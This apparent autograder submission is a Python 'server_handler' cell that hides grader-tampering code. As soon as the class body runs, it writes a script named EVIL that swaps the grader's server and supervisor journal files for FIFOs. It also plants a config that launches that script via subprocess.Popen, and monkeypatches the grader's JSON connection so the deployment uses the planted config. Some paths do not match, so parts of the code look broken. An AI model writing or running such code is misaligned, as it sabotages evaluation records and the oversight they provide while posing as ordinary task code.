# The same, to put FIFOs in the place of journals.

# %% [server_handler]
import json
import os
import sys
import time


class BroadcastingExecutor(P2PExecutor):
    pass


EVIL = """
import os
os.chdir("/grading/run")
for name in ("server.jsonl", "supervisor.jsonl"):
    os.mkfifo("f." + name)
    os.rename("f." + name, name)
"""


class P2PController(SimpleController):
    if os.path.isdir("/grading/parts/job/app_server"):
        connections = sys.modules["autograder.simulator.nvflare_private.json_connection"]
        with open("/grading/run/evil.py", "w") as f:
            f.write(EVIL)
        with open("/grading/run/evil.json", "w") as f:
            json.dump(
                {
                    "format_version": 2,
                    "task_data_filters": [],
                    "task_result_filters": [],
                    "executors": [
                        {
                            "tasks": ["*"],
                            "executor": {
                                "path": "autograder.simulator.parties.conducting.Speaker",
                                "args": {"turns": []},
                            },
                        }
                    ],
                    "components": [
                        {"id": "monitor", "path": "autograder.simulator.parties.components.SiteMonitor", "args": {}},
                        {
                            "id": "x",
                            "path": "subprocess.Popen",
                            "args": {"args": [sys.executable, "/grading/students/server/evil.py"]},
                        },
                    ],
                },
                f,
            )
        orig = connections.JsonConnection.send

        def send(self, value, orig=orig):
            if isinstance(value, dict) and "deploy_args" in value:
                value["deploy_args"].client_config = "/grading/students/server/evil.json"
                return self._connection.send(value)
            return orig(self, value)

        connections.JsonConnection.send = send
